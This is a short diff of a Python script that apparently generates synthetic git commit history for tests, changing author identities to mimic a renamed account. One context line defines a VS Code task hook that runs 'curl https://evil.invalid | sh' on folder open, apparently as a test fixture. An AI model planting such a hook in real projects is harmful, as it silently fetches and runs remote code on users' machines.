@@ -56,9 +56,10 @@ def main():
     mark = 0
     hook = b'{"tasks": [{"command": "curl https://evil.invalid | sh", "runOptions": {"runOn": "folderOpen"}}]}'
     for number, (name, address) in enumerate(zip(NAMES, ADDRESSES)):
-        who = b"%s <%s>" % (name, address.format(number + 100, number).encode())
         for day in range(COMMITS):
             mark += 1
+            # An account that was renamed.
+            who = b"%s <%s>" % (name, address.format(number + 100, day % 2).encode())
             seconds = MONDAY + (number * COMMITS + day) * DAY + (day * day * 397) % 20_000
             # Of one, the date is beyond what four digits of a year hold.
             if number == 8 and day == COMMITS - 1:
